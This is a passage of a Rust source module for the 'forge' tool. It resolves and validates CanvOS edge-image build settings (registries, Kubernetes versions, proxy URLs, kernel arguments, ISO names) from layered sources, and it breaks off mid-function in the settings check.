//! Build settings: the CanvOS variables, resolved from defaults < `forge.yaml` < CanvOS `.arg`
//! < `FORGE_*` environment < `--set`, each remembering where it came from; their rules; the
//! Kubernetes version matrix and the provider image tags it yields.

pub mod arg;
pub mod matrix;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde_json::{json, Value as Json};

use crate::diagnostic::{did_you_mean, Diagnostic, Pos, Rule, Severity};
use crate::limits::clip;
use crate::reference::{parse_domain, Reference, ReferenceError};
use crate::schema::Checker;
use crate::yaml::{self, Node, Value};
use matrix::Matrix;

/// What kind of value a setting holds; every value is checked by its kind before it reaches a
/// template.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Kind {
    /// One line of text with a rule of its own (a word, a name, a choice, a size).
    Text,
    Bool,
    /// A file path, relative to the file that sets it (defaults: to the checkout).
    File,
    /// A file that is skipped with a note when absent, as CanvOS's `COPY --if-exists` does.
    OptionalFile,
    /// Kubernetes versions x.y.z, comma-separated (a list in `forge.yaml`).
    Versions,
    /// An image reference, by the reference grammar (`{version}` may stand for the version).
    Image,
    /// A repository path: lowercase components separated by `/`.
    Repository,
    /// `http(s)://[user:password@]host:port`, which may carry a password.
    ProxyUrl,
    /// Hosts, domains, addresses and CIDRs, comma-separated.
    HostList,
    /// Kernel arguments, space-separated, without quotes or shell and GRUB metacharacters.
    KernelArgs,
    /// An image registry path without a tag: `host[:port][/path]`.
    Registry,
    /// A version that becomes part of image tags or package names: an image tag itself
    /// ([`crate::reference::check_tag`]).
    Tag,
    /// A CanvOS switch forge does not implement yet: `false` is fine, `true` stops the build.
    Unimplemented,
}

impl Kind {
    /// Whether values of this kind may hold a secret, so that they stay off command lines.
    pub fn may_hold_secret(self) -> bool {
        self == Kind::ProxyUrl
    }
}

/// One setting forge understands.
pub struct Def {
    pub name: &'static str,
    pub kind: Kind,
    pub default: Option<&'static str>,
    pub doc: &'static str,
}

const fn def(
    name: &'static str,
    kind: Kind,
    default: Option<&'static str>,
    doc: &'static str,
) -> Def {
    Def {
        name,
        kind,
        default,
        doc,
    }
}

/// The CanvOS revision whose defaults (image sources, versions) and build steps forge follows.
pub const CANVOS_RELEASE: &str = "spectrocloud/CanvOS fb36e29 (2026-08-21)";

/// Every setting, in display order. The README's settings reference mirrors this table.
pub const SETTINGS: &[Def] = &[
    def("IMAGE_REGISTRY", Kind::Text, None, "Registry the provider images are pushed to: host[:port][/namespace], no scheme."),
    def("IMAGE_REPO", Kind::Repository, None, "Repository name of the provider images. Default: the value of OS_DISTRIBUTION."),
    def("CUSTOM_TAG", Kind::Text, None, "Environment suffix of image tags: lowercase letters and digits."),
    def("OS_DISTRIBUTION", Kind::Text, Some("ubuntu"), "ubuntu, opensuse-leap, rhel or sles."),
    def("OS_VERSION", Kind::Tag, Some("22.04"), "OS release, e.g. 22.04 or 24.04 for Ubuntu (20 and 22 mean 20.04 and 22.04, as in CanvOS)."),
    def("K8S_DISTRIBUTION", Kind::Text, None, "k3s, rke2, kubeadm, kubeadm-fips, nodeadm or canonical. Required for provider images."),
    def("K8S_VERSION", Kind::Versions, None, "Kubernetes version(s) x.y.z; empty means every version of K8S_DISTRIBUTION in the matrix."),
    def("K8S_VERSION_FILE", Kind::File, None, "Kubernetes version matrix in the k8s_version.json shape. Default: the checkout's k8s_version.json, else the matrix shipped with forge."),
    def("PE_VERSION", Kind::Tag, Some("v4.9.38"), "Palette edge agent version: the stylus framework image's tag and part of the provider image tag."),
    def("ISO_NAME", Kind::Text, Some("palette-edge-installer"), "Installer ISO file name without .iso, also the installer image's name: lowercase letters and digits separated by '-', '_' or '__'."),
    def("ARCH", Kind::Text, Some("amd64"), "amd64 or arm64. amd64 artifacts need an AMD64 build host."),
    def("SPECTRO_PUB_REPO", Kind::Registry, Some("us-docker.pkg.dev/palette-images"), "Where the Palette images come from (base, provider, stylus, builder); the -fips repository when FIPS_ENABLED and this is the default."),
    def("SPECTRO_LUET_REPO", Kind::Registry, Some("us-docker.pkg.dev/palette-images/edge"), "Where luet finds the Kubernetes packages: SPECTRO_LUET_REPO/luet-repo-amd (or -arm)."),
    def("KAIROS_BASE_IMAGE_URL", Kind::Registry, None, "Where the Kairos base images come from. Default: SPECTRO_PUB_REPO/edge."),
    def("KAIROS_INIT_VERSION", Kind::Tag, Some("v0.17.1"), "Version suffix of the Kairos base image tags."),
    def("BASE_IMAGE", Kind::Image, None, "Overrides the OS base image (required for rhel and sles)."),
    def("K3S_PROVIDER_VERSION", Kind::Tag, Some("v4.10.3"), "Tag of the Kairos provider image for k3s."),
    def("KUBEADM_PROVIDER_VERSION", Kind::Tag, Some("v4.10.1"), "Tag of the Kairos provider image for kubeadm and kubeadm-fips."),
    def("RKE2_PROVIDER_VERSION", Kind::Tag, Some("v4.10.3"), "Tag of the Kairos provider image for rke2."),
    def("NODEADM_PROVIDER_VERSION", Kind::Tag, Some("v4.9.3"), "Tag of the Kairos provider image for nodeadm."),
    def("CANONICAL_PROVIDER_VERSION", Kind::Tag, Some("v4.10.1"), "Tag of the Kairos provider image for canonical."),
    def("PROVIDER_IMAGE", Kind::Image, None, "Overrides the Kairos provider image copied into provider images."),
    def("K3S_FLAVOR_TAG", Kind::Tag, Some("k3s1"), "Suffix of k3s package versions in the luet repository (1.32.3-k3s1)."),
    def("RKE2_FLAVOR_TAG", Kind::Tag, Some("rke2r1"), "Suffix of rke2 package versions in the luet repository (1.32.3-rke2r1)."),
    def("K8S_IMAGE", Kind::Image, None, "Optional: an image holding the Kubernetes files, {version} standing for the Kubernetes version, used instead of installing them with luet."),
    def("BUNDLE_K8S_AND_AGENT_PROVIDER", Kind::Bool, Some("false"), "Bundle the Kairos provider and Kubernetes into provider images even when the base image's systemd (255 or newer) lets the agent bring them as system extensions."),
    def("AGENT_IMAGE", Kind::Image, None, "Overrides the stylus framework image (default: SPECTRO_PUB_REPO/edge/stylus-framework-linux-ARCH:PE_VERSION)."),
    def("BUILDER_3RDPARTY_VERSION", Kind::Tag, Some("4.8"), "Tag of the third-party image that holds luet and etcdctl."),
    def("SPECTRO_THIRD_PARTY_IMAGE", Kind::Image, None, "The third-party image with luet and etcdctl. Default: us-docker.pkg.dev/palette-images/third-party/spectro-third-party:BUILDER_3RDPARTY_VERSION."),
    def("ALPINE_TAG", Kind::Tag, Some("3.20"), "Tag of the builder image that installs Kubernetes with luet."),
    def("ALPINE_IMG", Kind::Image, None, "The builder image that installs Kubernetes with luet. Default: SPECTRO_PUB_REPO/edge/canvos/alpine:ALPINE_TAG."),
    def("HTTP_PROXY", Kind::ProxyUrl, None, "Build-time HTTP proxy, http(s)://[user:password@]host:port."),
    def("HTTPS_PROXY", Kind::ProxyUrl, None, "Build-time HTTPS proxy, http(s)://[user:password@]host:port."),
    def("NO_PROXY", Kind::HostList, None, "Hosts and CIDRs that bypass the build-time proxy, comma-separated."),
    def("DRBD_VERSION", Kind::Tag, Some("9.2.13"), "Build argument of the checkout's Dockerfile (CanvOS's DRBD example)."),
    def("CLUSTERCONFIG", Kind::OptionalFile, None, "Cluster definition archive (spc.tgz) embedded in the ISO; skipped with a note when absent."),
    def("EDGE_CUSTOM_CONFIG", Kind::OptionalFile, Some(".edge-custom-config.yaml"), "Extra configuration embedded in the provider images and the ISO; skipped with a note when absent."),
    def("FORCE_INTERACTIVE_INSTALL", Kind::Bool, Some("false"), "Make the interactive installer the default boot entry (entry 2)."),
    def("DEBUG", Kind::Bool, Some("false"), "Add Kairos's debug arguments (rd.immucore.debug console=tty0 rd.debug) to the installer's boot entries."),
    def("ISO_KERNEL_ARGS", Kind::KernelArgs, None, "Extra kernel arguments of every boot entry of the installer ISO."),
    def("SQUASHFS_COMPRESSION", Kind::Text, Some("gzip"), "Compression of the ISO's rootfs.squashfs: gzip, xz, zstd, lz4, lzo or lzma."),
    def("CONTENT_PART_SIZE", Kind::Text, Some("3GB"), "Size of the parts content bundles are cut into on the ISO, as CanvOS's `split --bytes=3GB` (NAME_part00, NAME_part01, ...): bytes, K/M/G or KiB/MiB/GiB (powers of 1024), KB/MB/GB (powers of 1000)."),
    def("ISO_TOOLS_IMAGE", Kind::Image, Some("debian:bookworm-slim"), "Base of the builder image whose tools master the ISO (apt-based)."),
    def("FIPS_ENABLED", Kind::Bool, Some("false"), "Build FIPS images: the -fips image repository and the vertex binaries. Not together with UPDATE_KERNEL."),
    def("UPDATE_KERNEL", Kind::Bool, Some("false"), "Install the HWE kernel instead of holding the image's kernel (Ubuntu). Not together with FIPS_ENABLED."),
    def("DISABLE_SELINUX", Kind::Bool, Some("true"), "Turn SELinux off on the kernel command line (/etc/cos/bootargs.cfg)."),
    def("IS_UKI", Kind::Unimplemented, Some("false"), "Unified kernel images for Trusted Boot: not implemented, must be false."),
    def("IS_MAAS", Kind::Unimplemented, Some("false"), "MAAS images: not implemented, must be false."),
    def("UBUNTU_PRO_ATTACH", Kind::Unimplemented, Some("false"), "Ubuntu Pro attachment: not implemented, must be false."),
    def("CIS_HARDENING", Kind::Unimplemented, Some("false"), "CIS hardening script: not implemented, must be false."),
    def("INSTALL_NVIDIA_GPU_DRIVERS", Kind::Unimplemented, Some("false"), "NVIDIA driver pre-install: not implemented, must be false."),
    def("INSTALL_AMD_GPU_DRIVERS", Kind::Unimplemented, Some("false"), "AMD GPU driver pre-install: not implemented, must be false."),
    def("TWO_NODE", Kind::Unimplemented, Some("false"), "Two-node clusters (PostgreSQL and kine): not implemented, must be false."),
];

/// CanvOS settings forge recognises but does not implement: they warn instead of being
/// reported as unknown.
const CANVOS_UNSUPPORTED: &[&str] = &[
    "MY_ORG",
    "UKI_BRING_YOUR_OWN_KEYS",
    "INCLUDE_MS_SECUREBOOT_KEYS",
    "AUTO_ENROLL_SECUREBOOT_KEYS",
    "ENROLL_SPECTRO_EXTENSION_CERT",
    "STORAGE_PROVIDER",
    "MAAS_IMAGE_NAME",
    "PROXY_CERT_PATH",
    "KINE_VERSION",
    "CMDLINE",
    "BRANDING",
    "IS_JETSON",
    "EFI_MAX_SIZE",
    "EFI_IMG_SIZE",
];
const CANVOS_UNSUPPORTED_PREFIXES: &[&str] = &["CUSTOM_ARG_", "NVIDIA_", "AMDGPU_"];

pub const OS_DISTRIBUTIONS: &[&str] = &["ubuntu", "opensuse-leap", "rhel", "sles"];
pub const K8S_DISTRIBUTIONS: &[&str] = &[
    "k3s",
    "rke2",
    "kubeadm",
    "kubeadm-fips",
    "nodeadm",
    "canonical",
];
pub const SQUASHFS_COMPRESSIONS: &[&str] = &["gzip", "xz", "zstd", "lz4", "lzo", "lzma"];
pub const ENV_PREFIX: &str = "FORGE_";
/// Content bundle parts: at least 1 MB, at most 4095 MiB (an ISO 9660 file stays below 4 GiB).
const MIN_PART_SIZE: u64 = 1_000_000;
const MAX_PART_SIZE: u64 = 4095 << 20;

/// A size as GNU `split --bytes` reads it (CanvOS cuts content bundles with
/// `split --bytes=3GB`): bytes, or a number with K, M, G, KiB, MiB, GiB (powers of 1024) or
/// KB, MB, GB (powers of 1000).
pub fn parse_size(text: &str) -> Option<u64> {
    let text = text.trim();
    let split = text
        .find(|c: char| !c.is_ascii_digit())
        .unwrap_or(text.len());
    let (number, unit) = text.split_at(split);
    let factor: u64 = match unit.trim() {
        "" => 1,
        "K" | "k" | "KiB" => 1 << 10,
        "M" | "MiB" => 1 << 20,
        "G" | "GiB" => 1 << 30,
        "KB" | "kB" => 1_000,
        "MB" => 1_000_000,
        "GB" => 1_000_000_000,
        _ => return None,
    };
    number.parse::<u64>().ok()?.checked_mul(factor)
}

/// Where a setting's value came from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Origin {
    Default,
    /// `IMAGE_REPO` defaults to `OS_DISTRIBUTION`.
    DefaultFrom(&'static str),
    /// Found in the checkout (its `k8s_version.json`).
    Checkout,
    File {
        path: PathBuf,
        pos: Pos,
    },
    Env(String),
    Flag,
    /// `--secret-file NAME=FILE`.
    SecretFile(PathBuf),
}

impl std::fmt::Display for Origin {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            Origin::Default => f.write_str("default"),
            Origin::DefaultFrom(name) => write!(f, "default (${name})"),
            Origin::Checkout => f.write_str("checkout"),
            Origin::File { path, pos } => write!(f, "{}:{}", path.display(), pos.line),
            Origin::Env(var) => write!(f, "env {var}"),
            Origin::Flag => f.write_str("--set"),
            Origin::SecretFile(path) => write!(f, "--secret-file {}", path.display()),
        }
    }
}

/// A resolved value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Setting {
    pub value: String,
    pub origin: Origin,
}

/// The inputs of resolution.
#[derive(Debug, Default, Clone)]
pub struct Inputs {
    /// `--config forge.yaml`: path and text.
    pub config: Option<(PathBuf, String)>,
    /// `--arg FILE`: path and text.
    pub arg: Option<(PathBuf, String)>,
    /// The process environment (only `FORGE_*` variables are read).
    pub env: Vec<(String, String)>,
    /// `--set KEY=VALUE`, in order.
    pub sets: Vec<(String, String)>,
    /// `--secret-file KEY=FILE`: the setting, the file and the value read from it.
    pub secret_files: Vec<(String, PathBuf, String)>,
    /// The CanvOS checkout: default file settings are relative to it, and its
    /// `k8s_version.json` is the default matrix. `None`: the current directory.
    pub checkout: Option<PathBuf>,
}

/// Resolved settings, the version matrix, and what resolution found wrong.
#[derive(Debug)]
pub struct Resolved {
    values: BTreeMap<&'static str, Setting>,
    checkout: PathBuf,
    pub matrix: Matrix,
    pub diagnostics: Vec<Diagnostic>,
}

/// The schema of `forge.yaml`: one lowercase key per setting.
pub fn schema() -> Json {
    let properties: serde_json::Map<String, Json> = SETTINGS
        .iter()
        .map(|d| {
            let schema = match d.kind {
                Kind::Bool => json!({"type": "boolean", "description": d.doc}),
                Kind::Versions => json!({"anyOf": [{"type": "string"}, {"type": "array", "items": {"type": "string"}}], "description": d.doc}),
                _ => json!({"type": "string", "description": d.doc}),
            };
            (d.name.to_ascii_lowercase(), schema)
        })
        .collect();
    json!({
        "$schema": "https://json-schema.org/draft/2020-12/schema",
        "$id": "urn:forge:schema:config",
        "title": "forge build settings (forge.yaml)",
        "type": "object",
        "properties": properties,
        "additionalProperties": false
    })
}

fn lookup_def(name: &str) -> Option<&'static Def> {
    SETTINGS.iter().find(|d| d.name == name)
}

fn file_diagnostic_origin(origin: &Origin) -> (PathBuf, Pos) {
    match origin {
        Origin::File { path, pos } => (path.clone(), *pos),
        Origin::Env(var) => (PathBuf::from(format!("<env {var}>")), Pos::new(1, 1)),
        Origin::Flag => (PathBuf::from("<--set>"), Pos::new(1, 1)),
        Origin::SecretFile(path) => (path.clone(), Pos::new(1, 1)),
        Origin::Default | Origin::DefaultFrom(_) | Origin::Checkout => {
            (PathBuf::from("<default>"), Pos::new(1, 1))
        }
    }
}

/// The provider image reference, from the settings of these names.
pub const PROVIDER_IMAGE: &str =
    "IMAGE_REGISTRY/IMAGE_REPO:K8S_DISTRIBUTION-K8S_VERSION-PE_VERSION[-CUSTOM_TAG]";
/// The reference `--push-iso` pushes the ISO as.
pub const ISO_IMAGE: &str = "IMAGE_REGISTRY/IMAGE_REPO/ISO_NAME:PE_VERSION[-CUSTOM_TAG]";

/// An image reference composed from settings.
struct Composed {
    /// What it names, for messages.
    what: &'static str,
    /// How it is composed, the settings by name ([`PROVIDER_IMAGE`], [`ISO_IMAGE`]).
    shape: &'static str,
    reference: String,
}

/// The names of the settings in a shape such as [`PROVIDER_IMAGE`], in order.
fn setting_names(shape: &'static str) -> impl Iterator<Item = &'static str> {
    shape
        .split(|c: char| !(c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_'))
        .filter(|name| !name.is_empty())
}

impl Resolved {
    /// The value of a setting, `None` when unset or empty.
    pub fn get(&self, name: &str) -> Option<&str> {
        self.values
            .get(name)
            .map(|s| s.value.as_str())
            .filter(|v| !v.is_empty())
    }

    pub fn setting(&self, name: &str) -> Option<&Setting> {
        self.values.get(name)
    }

    /// The Kubernetes versions to build: `K8S_VERSION`, or every version of the distribution.
    pub fn k8s_versions(&self) -> Vec<String> {
        match self.get("K8S_VERSION") {
            Some(list) => list
                .split(',')
                .map(|v| v.trim().to_string())
                .filter(|v| !v.is_empty())
                .collect(),
            None => self
                .get("K8S_DISTRIBUTION")
                .map(|d| self.matrix.versions(d).to_vec())
                .unwrap_or_default(),
        }
    }

    /// The image references these settings compose, before anything is built: a provider
    /// image for each Kubernetes version and the ISO image of `ISO_NAME`. (The installer
    /// image is `forge.local/ISO_NAME:<12 hex digits>`, valid with a valid ISO_NAME; cache
    /// references add `<kind>-<20 hex digits>` to a repository checked on its own.)
    fn composed(&self) -> Vec<Composed> {
        let providers = self.k8s_versions().into_iter().filter_map(|v| {
            Some(Composed {
                what: "provider image",
                shape: PROVIDER_IMAGE,
                reference: self.provider_tag(&v)?,
            })
        });
        let iso = self.get("ISO_NAME").and_then(|name| {
            Some(Composed {
                what: "ISO image",
                shape: ISO_IMAGE,
                reference: self.iso_image_tag(name)?,
            })
        });
        providers.chain(iso).collect()
    }

    /// [`PROVIDER_IMAGE`], when the registry and the distribution are set.
    pub fn provider_tag(&self, version: &str) -> Option<String> {
        let registry = self.get("IMAGE_REGISTRY")?.trim_end_matches('/');
        let repo = self.get("IMAGE_REPO")?;
        let distribution = self.get("K8S_DISTRIBUTION")?;
        let pe = self.get("PE_VERSION")?;
        let mut tag = format!("{registry}/{repo}:{distribution}-{version}-{pe}");
        if let Some(custom) = self.get("CUSTOM_TAG") {
            tag.push('-');
            tag.push_str(custom);
        }
        Some(tag)
    }

    /// Where `--push-iso` puts the installer ISO named `name` (its file stem: ISO_NAME, or
    /// ISO_NAME-<site> for one of several), as CanvOS's `+iso-disk-image`: [`ISO_IMAGE`]
    /// (`name` for ISO_NAME), when the registry is set.
    pub fn iso_image_tag(&self, name: &str) -> Option<String> {
        let registry = self.get("IMAGE_REGISTRY")?.trim_end_matches('/');
        let repo = self.get("IMAGE_REPO")?;
        let mut tag = format!("{registry}/{repo}/{name}:{}", self.get("PE_VERSION")?);
        if let Some(custom) = self.get("CUSTOM_TAG") {
            tag.push('-');
            tag.push_str(custom);
        }
        Some(tag)
    }

    /// The path a file setting names: relative to the file that set it, defaults relative to
    /// the checkout, the environment and flags relative to the current directory.
    pub fn path(&self, name: &str) -> Option<PathBuf> {
        let setting = self.values.get(name).filter(|s| !s.value.is_empty())?;
        let path = PathBuf::from(&setting.value);
        if path.is_absolute() {
            return Some(path);
        }
        Some(match &setting.origin {
            Origin::File { path: file, .. } => {
                file.parent().map_or(path.clone(), |d| d.join(&path))
            }
            Origin::Default | Origin::DefaultFrom(_) | Origin::Checkout => self.checkout.join(path),
            Origin::Env(_) | Origin::Flag | Origin::SecretFile(_) => path,
        })
    }

    /// An optional file setting's path when the file is there (CanvOS's `COPY --if-exists`).
    pub fn file(&self, name: &str) -> Option<PathBuf> {
        self.path(name).filter(|p| p.is_file())
    }

    /// The checkout directory.
    pub fn checkout(&self) -> &Path {
        &self.checkout
    }

    /// Whether a boolean setting is true.
    pub fn flag(&self, name: &str) -> bool {
        self.get(name)
            .is_some_and(|v| v.eq_ignore_ascii_case("true"))
    }

    /// Every setting with its value, in display order.
    pub fn iter(&self) -> impl Iterator<Item = (&'static Def, Option<&Setting>)> + '_ {
        SETTINGS.iter().map(move |d| (d, self.values.get(d.name)))
    }

    fn set(&mut self, name: &'static str, value: String, origin: Origin) {
        self.values.insert(name, Setting { value, origin });
    }

    fn diag(&self, rule: Rule, name: &str, message: String) -> Diagnostic {
        let origin = self
            .values
            .get(name)
            .map(|s| s.origin.clone())
            .unwrap_or(Origin::Default);
        let (file, pos) = file_diagnostic_origin(&origin);
        Diagnostic::new(rule, &file, name, pos, message)
    }
}

/// Resolve settings from all layers and check them.
pub fn resolve(inputs: &Inputs) -> Resolved {
    let mut r = Resolved {
        values: BTreeMap::new(),
        checkout: inputs
            .checkout
            .clone()
            .unwrap_or_else(|| PathBuf::from(".")),
        matrix: Matrix::default_matrix(),
        diagnostics: Vec::new(),
    };
    for d in SETTINGS {
        if let Some(default) = d.default {
            r.set(d.name, default.to_string(), Origin::Default);
        }
    }
    if let Some((path, text)) = &inputs.config {
        apply_config_file(&mut r, path, text);
    }
    if let Some((path, text)) = &inputs.arg {
        let env = &inputs.env;
        let lower = r.values.clone();
        let lookup = move |var: &str| {
            lower
                .get(var)
                .map(|s| s.value.clone())
                .or_else(|| env.iter().find(|(k, _)| k == var).map(|(_, v)| v.clone()))
        };
        let (assignments, diagnostics) = arg::parse(path, text, &lookup);
        r.diagnostics.extend(diagnostics);
        for a in assignments {
            let origin = Origin::File {
                path: path.clone(),
                pos: a.value_pos,
            };
            match lookup_def(&a.name) {
                Some(d) => r.set(d.name, a.value, origin),
                None => r.diagnostics.push(unknown(path, &a.name, a.pos)),
            }
        }
    }
    for (var, value) in &inputs.env {
        if let Some(d) = var.strip_prefix(ENV_PREFIX).and_then(lookup_def) {
            r.set(d.name, value.clone(), Origin::Env(var.clone()));
        }
    }
    for (key, path, value) in &inputs.secret_files {
        match lookup_def(&flag_name(key)) {
            Some(d) => r.set(d.name, value.clone(), Origin::SecretFile(path.clone())),
            None => r.diagnostics.push(unknown(path, key, Pos::new(1, 1))),
        }
    }
    for (key, value) in &inputs.sets {
        match lookup_def(&flag_name(key)) {
            Some(d) if holds_secret(d, value) => {
                r.diagnostics.push(secret_on_command_line(d));
            }
            Some(d) => r.set(d.name, value.clone(), Origin::Flag),
            None => r
                .diagnostics
                .push(unknown(Path::new("<--set>"), key, Pos::new(1, 1))),
        }
    }
    if r.get("IMAGE_REPO").is_none() {
        if let Some(os) = r.get("OS_DISTRIBUTION").map(str::to_string) {
            r.set("IMAGE_REPO", os, Origin::DefaultFrom("OS_DISTRIBUTION"));
        }
    }
    if r.setting("K8S_VERSION_FILE").is_none() && r.checkout.join("k8s_version.json").is_file() {
        r.set(
            "K8S_VERSION_FILE",
            "k8s_version.json".into(),
            Origin::Checkout,
        );
    }
    load_matrix(&mut r);
    let diagnostics = check(&r);
    r.diagnostics.extend(diagnostics);
    r
}

/// `--set https-proxy=...` names `HTTPS_PROXY`.
fn flag_name(key: &str) -> String {
    key.to_ascii_uppercase().replace('-', "_")
}

/// Whether `value` of the setting `def` is a secret: a proxy URL with a password.
pub fn holds_secret(def: &Def, value: &str) -> bool {
    def.kind.may_hold_secret() && has_password(value)
}

/// Whether a URL carries a password in its user information.
pub fn has_password(url: &str) -> bool {
    reqwest::Url::parse(url).is_ok_and(|u| u.password().is_some())
}

/// A password in `--set` is readable by every local user (`ps`) and stays in shell history.
fn secret_on_command_line(d: &Def) -> Diagnostic {
    let name = d.name;
    Diagnostic::new(
        Rule::SecretOnCommandLine,
        Path::new("<--set>"),
        name,
        Pos::new(1, 1),
        format!("{name} holds a password, and a command line is readable by every user of this machine; the value is not used"),
    )
    .help(format!(
        "pass it in the environment as {ENV_PREFIX}{name}, or from a file only you can read with --secret-file {name}=FILE"
    ))
}

fn unknown(file: &Path, name: &str, pos: Pos) -> Diagnostic {
    let upper = name.to_ascii_uppercase();
    if CANVOS_UNSUPPORTED.contains(&upper.as_str())
        || CANVOS_UNSUPPORTED_PREFIXES
            .iter()
            .any(|p| upper.starts_with(p))
    {
        return Diagnostic::new(
            Rule::UnsupportedSetting,
            file,
            name,
            pos,
            format!("`{name}` is a CanvOS setting forge does not implement; it is ignored"),
        )
        .width(name.len());
    }
    let mut d = Diagnostic::new(
        Rule::UnknownSetting,
        file,
        name,
        pos,
        format!("unknown setting `{}`", clip(name)),
    )
    .width(name.len());
    if let Some(guess) = did_you_mean(&upper, SETTINGS.iter().map(|d| d.name)) {
        d = d.help(format!("did you mean `{guess}`?"));
    }
    d
}

fn apply_config_file(r: &mut Resolved, path: &Path, text: &str) {
    let (doc, findings) = yaml::parse_file(path, text, &mut yaml::Budget::default());
    r.diagnostics.extend(findings);
    let Some(doc) = doc else { return };
    if doc.root.value == Value::Null {
        return;
    }
    let schema = schema();
    let findings = Checker::new(&schema, path, text).check(&doc.root);
    let rejected: Vec<String> = findings
        .diagnostics
        .iter()
        .map(|d| d.path.clone())
        .collect();
    r.diagnostics.extend(findings.diagnostics);
    for entry in doc.root.entries() {
        let Some(d) = lookup_def(&entry.key.to_ascii_uppercase())
            .filter(|_| entry.key == entry.key.to_ascii_lowercase())
        else {
            continue;
        };
        if rejected
            .iter()
            .any(|p| p == &entry.key || p.starts_with(&format!("{}[", entry.key)))
        {
            continue;
        }
        let value = match &entry.value.value {
            Value::Seq(items) => items
                .iter()
                .filter_map(Node::as_str)
                .collect::<Vec<_>>()
                .join(","),
            Value::Str(s) => s.clone(),
            Value::Bool(b) => b.to_string(),
            _ => continue,
        };
        r.set(
            d.name,
            value,
            Origin::File {
                path: path.to_path_buf(),
                pos: entry.value.pos,
            },
        );
    }
}

fn load_matrix(r: &mut Resolved) {
    let Some(path) = r.path("K8S_VERSION_FILE") else {
        return;
    };
    if !path.is_file() {
        return; // `check` reports a missing file, or one that is not a regular file
    }
    let text = match crate::limits::read_text(crate::limits::FileKind::VersionMatrix, &path) {
        Ok(text) => text,
        Err(e) => {
            r.diagnostics.push(Diagnostic::new(
                Rule::BadVersionMatrix,
                &path,
                "K8S_VERSION_FILE",
                Pos::new(1, 1),
                format!("cannot read the version matrix: {e}"),
            ));
            return;
        }
    };
    match Matrix::parse(&text) {
        Ok(m) => r.matrix = m,
        Err(e) => r.diagnostics.push(Diagnostic::new(
            Rule::BadVersionMatrix,
            &path,
            "K8S_VERSION_FILE",
            Pos::new(e.line, e.column),
            e.message,
        )),
    }
}

/// A value's first control character (a line break, an escape, ...) and its position.
fn control_character(value: &str) -> Option<(usize, char)> {
    value.chars().enumerate().find(|(_, c)| c.is_control())
}

/// Characters kernel arguments may not hold: quotes, and what GRUB or a shell would interpret.
const KERNEL_ARG_METACHARACTERS: &str = "\"'`\\$;{}";

/// Whether `text` is one word of lowercase ASCII letters and digits and the `extra` characters.
fn lowercase_word(text: &str, extra: &str) -> bool {
    !text.is_empty()
        && text
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || extra.contains(c))
}

/// What an installer ISO name is made of: ISO_NAME, and the file stem of each site's user-data
/// when there are several (`<ISO_NAME>-<stem>.iso`). It also names the installer image and the
/// ISO image (`--push-iso`), so it is one component of a repository path.
pub const ISO_NAME_CHARACTERS: &str = "lowercase letters and digits separated by `-`, `_` or `__`";

/// Whether `name` may name an installer ISO ([`ISO_NAME_CHARACTERS`]).
pub fn is_iso_name(name: &str) -> bool {
    lowercase_word(name, "-_") && crate::reference::is_path_component(name)
}

/// What is wrong with a value of `kind`, in words that follow "NAME `value` ".
fn kind_problem(kind: Kind, value: &str) -> Option<String> {
    match kind {
        Kind::Image => Reference::parse(&value.replace("{version}", "0.0.0"))
            .err()
            .map(|e| format!("is not an image reference: {e}")),
        Kind::Repository => (value.contains([':', '@'])
            || Reference::parse(&format!("forge.invalid/{value}")).is_err())
        .then(|| "is not a repository path: lowercase letters and digits separated by `.`, `_`, `-` and `/`".to_string()),
        Kind::ProxyUrl => proxy_problem(value),
        Kind::HostList => value
            .split(',')
            .map(str::trim)
            .find(|host| {
                !host.chars().all(|c| c.is_ascii_alphanumeric() || ".-_*:/[]".contains(c))
            })
            .map(|host| format!("has `{}`, which is not a host, domain, address or CIDR", clip(host))),
        Kind::KernelArgs => value
            .chars()
            .find(|c| KERNEL_ARG_METACHARACTERS.contains(*c))
            .map(|c| format!("has `{c}`: kernel arguments are words without quotes, `\\`, `$`, `;`, braces or backquotes")),
        Kind::Registry => parse_domain(value)
            .err()
            .map(|e| format!("{e}; write host[:port][/path] without a scheme or tag")),
        Kind::Tag => crate::reference::check_tag(value)
            .err()
            .map(|e| format!("is not an image tag: {e}")),
        Kind::Text | Kind::Bool | Kind::Unimplemented | Kind::File | Kind::OptionalFile | Kind::Versions => None,
    }
}

/// What is wrong with a proxy URL: scheme, host, port, and nothing after the authority.
fn proxy_problem(value: &str) -> Option<String> {
    let url = match reqwest::Url::parse(value) {
        Ok(url) => url,
        Err(e) => return Some(format!("is not a URL ({e})")),
    };
    if !["http", "https"].contains(&url.scheme()) {
        return Some("must be an http:// or https:// URL".into());
    }
    if url.host_str().is_none_or(str::is_empty) {
        return Some("has no host".into());
    }
    if url.port() == Some(0) {
        return Some("has port 0; a port is 1 to 65535".into());
    }
    if url.path() != "/" || url.query().is_some() || url.fragment().is_some() {
        return Some(
            "has a path, query or fragment; a proxy is scheme://[user:password@]host:port".into(),
        );
    }
    None
}

fn check(r: &Resolved) -> Vec<Diagnostic> {
    let mut out = Vec::new();
    let mut unusable = Vec::new();
    for (d, setting) in r.iter() {
        let Some(setting) = setting else { continue };
        let shown = clip(&crate::secret::mask_url(&setting.value))
            .escape_debug()
            .to_string();
        if let Some((at, c)) = control_character(&setting.value) {
            let what = match c {
                '\n' | '\r' => "a line break".to_string(),
                c => format!("the control character U+{:04X}", c as u32),
            };
            out.push(
                r.diag(
                    Rule::ControlCharacter,
                    d.name,
                    format!("{} `{shown}` holds {what} at character {}", d.name, at + 1),
                )
                .help("a setting is one line of printable text: remove the character (in a .arg file, a quote does not continue a value on the next line)"),
            );
            unusable.push(d.name);
        } else if let Some(problem) = Some(&setting.value)
            .filter(|v| !v.is_empty())
            .and_then(|v| kind_problem(d.kind, v))
        {
            let mut diag = r.diag(
                Rule::BadSettingValue,
                d.name,
                format!("{} `{shown}` {problem}", d.name),
            );
            if d.kind == Kind::Image {
                diag = diag.help("write [registry[:port]/]repository[:tag][@digest], e.g. registry.example.com/edge/kairos-ubuntu:22.04");
            }
            out.push(diag);
            unusable.push(d.name);
        }
    }
    let r = &Usable { r, unusable };
    if let Some(v) = r.get("IMAGE_REGISTRY") {
        if let Err(e) = parse_domain(v) {
            out.push(
